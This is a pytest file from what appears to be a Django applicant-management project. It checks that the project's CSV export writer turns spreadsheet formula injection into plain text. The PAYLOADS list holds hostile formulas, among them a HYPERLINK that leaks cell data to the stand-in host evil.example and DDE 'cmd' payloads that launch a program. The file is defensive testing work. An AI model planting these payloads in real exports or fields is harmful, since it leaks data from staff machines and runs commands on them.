"""Spreadsheet formula injection (issue 18, item 8): an applicant or a platform writes text that
a spreadsheet would run as a formula (`=HYPERLINK(...)`, `+cmd|...`, `@SUM(...)`, a leading tab
or carriage return) and waits for PMO staff to open an admin export in Excel. Every CSV leaves
through one writer (prakerja.core.formatting.csv_lines), which must turn such cells into text."""

import csv
import io
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse

from applicants.complaints.services import complaint_file
from applicants.models import Step
from prakerja.core.formatting import csv_lines
from tests.factories import ApplicantFactory, StaffUserFactory

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Klik")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def parse(lines: list[str]) -> list[list[str]]:
    return list(csv.reader(io.StringIO("".join(lines))))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_cell_is_written_as_text(payload):
    # given a row whose text cell starts with a formula trigger
    # when the project's CSV writer writes it
    (row,) = parse(list(csv_lines([[payload, 42, -5]])))

    # then the cell starts with an apostrophe (text in every spreadsheet), the text kept whole,
    # and numbers are left alone
    assert row[0] == "'" + payload
    assert row[1:] == ["42", "-5"]


def test_ordinary_text_is_not_touched():
    (row,) = parse(list(csv_lines([["Kursus tidak bisa dibuka", "Rp1.000.000", "a=b"]])))
    assert row == ["Kursus tidak bisa dibuka", "Rp1.000.000", "a=b"]


@pytest.mark.django_db
def test_a_complaint_subject_cannot_run_in_the_desks_export(regions, staff_groups):
    # given an applicant who files a complaint whose subject is a formula
    applicant = ApplicantFactory.create(reached=Step.READY)
    complaint_file(applicant=applicant, category="other", subject=PAYLOADS[0], body="isi")
    client = Client()
    client.force_login(StaffUserFactory.create(group="verifier"))

    # when the desk exports the complaints
    response: Any = client.get(reverse("admin:applicants_complaint_export"))
    header, line = parse([b"".join(response.streaming_content).decode()])

    # then the subject arrives as text, not as a formula
    assert line[header.index("subject")] == "'" + PAYLOADS[0]
